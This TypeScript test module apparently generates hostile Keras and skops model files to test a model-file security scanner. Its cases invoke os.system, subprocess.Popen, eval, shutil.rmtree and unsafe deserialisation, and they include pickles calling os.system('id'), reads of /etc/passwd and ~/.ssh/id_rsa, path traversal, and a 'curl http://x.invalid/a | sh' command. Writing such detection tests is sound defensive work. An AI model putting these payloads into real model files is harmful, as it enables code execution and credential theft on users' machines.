import { File as Hdf5File, ready } from 'h5wasm';
import { callPickle } from '../pickle.ts';
import { forgeZip } from '../zip.ts';
import { cases, type HostileCase, json, utf8 } from './case.ts';

const sequential = (...layers: object[]): object => ({ class_name: 'Sequential', config: { name: 's', layers } });
const modern = (...layers: object[]): object => ({
  ...sequential(...layers),
  module: 'keras',
  registered_name: null,
  keras_version: '3.5.0',
});
const layer = (module: string, className: string, config: unknown, registered: string | null = null): object => ({
  module,
  class_name: className,
  config,
  registered_name: registered,
});
const named = (module: string, name: string): object => ({
  module,
  class_name: 'function',
  config: name,
  registered_name: name,
});
const dense = (more: object = {}): object => layer('keras.layers', 'Dense', { name: 'd', units: 2, ...more });
const lambda = {
  class_name: '__lambda__',
  config: { code: '4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMIAAAAfABkARcAUwA=', defaults: null, closure: null },
};

/** Configurations of Keras that loading follows, by what a layer or an argument in them is. */
export const hostileConfigs: Readonly<Record<string, object>> = {
  'a Lambda of Keras 3': modern(layer('keras.layers', 'Lambda', { function: lambda })),
  'a Lambda of Keras 2': sequential({
    class_name: 'Lambda',
    config: { function: ['4wEA', null, null], function_type: 'lambda' },
  }),
  'a Lambda of text': sequential({ class_name: 'Lambda', config: { function: "lambda x: eval('1')" } }),
  'a Lambda in a wrapper': sequential({
    class_name: 'TimeDistributed',
    config: { layer: { class_name: 'Lambda', config: { function: ['4wEA', null, null] } } },
  }),
  'a Lambda in a Bidirectional': modern(
    layer('keras.layers', 'Bidirectional', { layer: layer('keras.layers', 'Lambda', { function: lambda }) }),
  ),
  'a Lambda in a model in a model': modern({
    ...modern({ ...modern(layer('keras.layers', 'Lambda', { function: lambda })) }),
  }),
  'a Lambda under another registered name': modern(
    layer('keras.layers', 'Lambda', { function: lambda }, 'Custom>Lambda'),
  ),
  'a Lambda by its name': sequential({
    class_name: 'Lambda',
    config: { function: 'evil', function_type: 'function', module: 'os' },
  }),
  'code in an activation': modern(dense({ activation: lambda })),
  'code in an initialiser': modern(dense({ kernel_initializer: lambda })),
  'code in a shape function': sequential({
    class_name: 'Lambda',
    config: {
      function: 'f',
      function_type: 'function',
      output_shape: ['4wEA', null, null],
      output_shape_type: 'lambda',
    },
  }),
  'a function of os': modern(dense({ activation: named('os', 'system') })),
  'a function of builtins': modern(
    dense({ activation: { module: 'builtins', class_name: 'function', config: 'eval', registered_name: 'function' } }),
  ),
  'a class of subprocess': modern(layer('subprocess', 'Popen', { args: ['id'] })),
  'a class of shutil': modern(dense({ kernel_regularizer: named('shutil', 'rmtree') })),
  'a module of its own': modern(layer('evil_package.layers', 'EvilLayer', {})),
  'a class that is registered elsewhere': modern({
    class_name: 'EvilLayer',
    config: {},
    registered_name: 'evil>EvilLayer',
  }),
  'a class that nobody knows': sequential({ class_name: 'EvilLayer', config: { payload: 'x' } }),
  get_file: modern(dense({ activation: named('keras.utils', 'get_file') })),
  'get_file by a long name': modern(
    layer('keras.src.utils.file_utils', 'get_file', { fname: 'x', origin: 'http://x.invalid/a' }),
  ),
  load_model: modern(dense({ activation: named('keras.models', 'load_model') })),
  'unsafe deserialisation switched on': modern(
    dense({ activation: named('keras.config', 'enable_unsafe_deserialization') }),
  ),
  'unsafe deserialisation by its module': modern(
    dense({ activation: named('keras.src.saving.serialization_lib', 'enable_unsafe_deserialization') }),
  ),
  'a module of Torch': modern(layer('keras.layers', 'TorchModuleWrapper', { module: 'gAJ9cQAu' })),
  'a SavedModel layer': modern(layer('keras.layers', 'TFSMLayer', { filepath: '/tmp/evil', call_endpoint: 'serve' })),
  'a loader of numpy': modern(dense({ activation: named('numpy', 'load') })),
  'a loader of joblib': modern(dense({ activation: named('joblib', 'load') })),
  'a vocabulary of this machine': modern(layer('keras.layers', 'StringLookup', { vocabulary: '/etc/passwd' })),
  'a vocabulary of this machine by ~': modern(
    layer('keras.layers', 'TextVectorization', { vocabulary: '~/.ssh/id_rsa' }),
  ),
  'a vocabulary of an address': modern(layer('keras.layers', 'StringLookup', { vocabulary: 'http://x.invalid/a' })),
  'a vocabulary out of the folder': modern(layer('keras.layers', 'IndexLookup', { vocabulary: '../../etc/passwd' })),
  'a vocabulary by file://': modern(layer('keras.layers', 'IntegerLookup', { vocabulary: 'file:///etc/passwd' })),
  'weights of this machine': modern(
    layer('keras.layers', 'TextVectorization', { idf_weights: '/etc/passwd', vocabulary: null }),
  ),
  'an operation of files': sequential({ class_name: 'TFOpLambda', config: { name: 'x', function: 'io.read_file' } }),
  'an operation that writes': sequential({
    class_name: 'TFOpLambda',
    config: { name: 'x', function: 'io.write_file' },
  }),
  'an operation of Python': sequential({ class_name: 'TFOpLambda', config: { name: 'x', function: 'py_function' } }),
  'an operation of numpy': sequential({ class_name: 'TFOpLambda', config: { name: 'x', function: 'numpy_function' } }),
  'an operation that loads a library': sequential({
    class_name: 'TFOpLambda',
    config: { name: 'x', function: 'load_op_library' },
  }),
  'an operation as a slicer': sequential({
    class_name: 'SlicingOpLambda',
    config: { name: 'x', function: 'py_function' },
  }),
  'code as a text': modern(dense({ name: "__import__('os').system('id')" })),
  'a command as a text': modern(dense({ note: 'curl http://x.invalid/a | sh' })),
  'a name that is a path': modern(dense({ name: '../../../etc/passwd' })),
  'a loss of its own': { ...modern(dense()), compile_config: { loss: 'evil_loss', metrics: ['evil_metric'] } },
  'a loss of another module': { ...modern(dense()), compile_config: { loss: named('evil', 'loss') } },
  'a build that calls': { ...modern(dense()), build_config: { x: named('os', 'system') } },
};

/** Every configuration as JSON, in a .keras archive and in HDF5, and archives whose other members are hostile. */
export async function kerasCases(): Promise<HostileCase[]> {
  const found: HostileCase[] = [];
  for (const [title, config] of Object.entries(hostileConfigs)) {
    found.push({ title: `${title} (JSON)`, name: 'model.json', content: json(config), least: 'high' });
    found.push({ title: `${title} (.keras)`, name: 'model.keras', content: archive(config), least: 'high' });
  }
  const evil = callPickle('os', 'system', 'id');
  found.push(
    ...cases('model.keras', 'high', {
      'a pickle as the weights': archive(modern(dense()), [{ name: 'model.weights.npz', content: evil }]),
      'a pickle beside the weights': archive(modern(dense()), [{ name: 'assets/x.bin', content: evil }]),
      'a path out of the folder': archive(modern(dense()), [{ name: '../../x', content: 'x' }]),
      'a link': archive(modern(dense()), [{ name: 'assets/x', content: '/etc/passwd', mode: 0o120777 }]),
      'a configuration that is no JSON': forgeZip({
        members: [
          { name: 'config.json', content: '{' },
          { name: 'metadata.json', content: '{}' },
        ],
      }),
      'two configurations': archive(modern(dense()), [
        { name: 'config.json', content: json(modern(layer('os', 'system', {}))) },
      ]),
      'code among the assets': archive(modern(dense()), [
        { name: 'assets/x.py', content: "import os\nos.system('id')\n" },
      ]),
    }),
  );
  const { FS } = await ready;
  for (const [title, config] of Object.entries(hostileConfigs).slice(0, 6)) {
    const path = '/hostile.h5';
    const file = new Hdf5File(path, 'w');
    file.create_attribute('model_config', JSON.stringify(config));
    file.close();
    found.push({
      title: `${title} (HDF5)`,
      name: 'model.h5',
      content: new Uint8Array(FS.readFile(path)),
      least: 'high',
    });
    FS.unlink(path);
  }
  return found;
}

function archive(
  config: object,
  more: readonly { name: string; content: Uint8Array | string; mode?: number }[] = [],
): Uint8Array {
  const members = [
    { name: 'metadata.json', content: json({ keras_version: '3.5.0' }) },
    { name: 'config.json', content: json(config) },
    ...more,
  ];
  return forgeZip({ members });
}

/** skops schemas: a file of skops is safe only where every type in it is one that it trusts. */
export function skopsCases(): HostileCase[] {
  const schema = (content: object): Uint8Array =>
    forgeZip({
      members: [
        {
          name: 'schema.json',
          content: json({
            __class__: 'LogisticRegression',
            __module__: 'sklearn.linear_model._logistic',
            __loader__: 'ObjectNode',
            __id__: 1,
            content,
            protocol: 2,
            _skops_version: '0.11.0',
          }),
        },
      ],
    });
  const node = (module: string, name: string, loader = 'ObjectNode', more: object = {}): object => ({
    __class__: name,
    __module__: module,
    __loader__: loader,
    content: {},
    ...more,
  });
  const table: Readonly<Record<string, object>> = {
    'a class of subprocess': node('subprocess', 'Popen'),
    'a function of os': node('builtins', 'function', 'FunctionNode', {
      content: { module_path: 'os', function: 'system' },
    }),
    'a function by another key': {
      __class__: 'function',
      __module__: 'builtins',
      __loader__: 'FunctionNode',
      content: 'x',
      module_path: 'os',
      function: 'system',
    },
    'a type of os': node('builtins', 'type', 'TypeNode', { content: { __module__: 'os', __class__: 'system' } }),
    'an operator that calls': node('operator', 'methodcaller', 'OperatorFuncNode', {
      attrs: { __class__: 'tuple', __module__: 'builtins', content: ['system'] },
    }),
    'an operator that takes attributes': node('operator', 'attrgetter', 'OperatorFuncNode'),
    'an operator under a false class': {
      __class__: 'call',
      __module__: 'sklearn.linear_model',
      __loader__: 'OperatorFuncNode',
      attrs: {},
    },
    'a method of a false object': {
      __class__: 'method',
      __module__: 'builtins',
      __loader__: 'MethodNode',
      content: { func: '__init__', obj: node('subprocess', 'Popen') },
    },
    'a method that evaluates': {
      __class__: 'method',
      __module__: 'builtins',
      __loader__: 'MethodNode',
      content: { func: 'eval', obj: node('pandas.core.frame', 'DataFrame') },
    },
    'a method by its builtins': {
      __class__: 'builtin_function_or_method',
      __module__: 'builtins',
      __loader__: 'MethodNode',
      content: { func: '__globals__', obj: node('sklearn.base', 'BaseEstimator') },
    },
    'a partial of os.system': node('functools', 'partial', 'PartialNode', {
      content: {
        func: {
          module_path: 'os',
          function: 'system',
          __module__: 'builtins',
          __class__: 'function',
          __loader__: 'FunctionNode',
        },
      },
    }),
    'a reduce of a pickle': node('evil', 'X', 'ReduceNode', { __reduce__: { args: {} } }),
    'a loader of joblib': node('joblib.numpy_pickle', 'load', 'FunctionNode'),
    'a class of its own': node('evil_module', 'Evil'),
    'a node that nobody knows': { __class__: 'X', __module__: 'evil', __loader__: 'EvalNode' },
    'json with a class of os': node('os', '_wrap_close'),
  };
  return [
    ...cases(
      'model.skops',
      'high',
      Object.fromEntries(Object.entries(table).map(([title, content]) => [title, schema({ x: content })])),
    ),
    ...cases('model.skops', 'high', {
      'a pickle beside the schema': forgeZip({
        members: [
          { name: 'schema.json', content: json({ __class__: 'dict', __module__: 'builtins' }) },
          { name: 'x', content: callPickle('os', 'system') },
        ],
      }),
      'no valid schema': forgeZip({ members: [{ name: 'schema.json', content: '{"__class__": ' }] }),
      'a path out of the folder': forgeZip({
        members: [
          { name: 'schema.json', content: json({ __class__: 'dict', __module__: 'builtins' }) },
          { name: '../x.npy', content: utf8('x') },
        ],
      }),
    }),
  ];
}
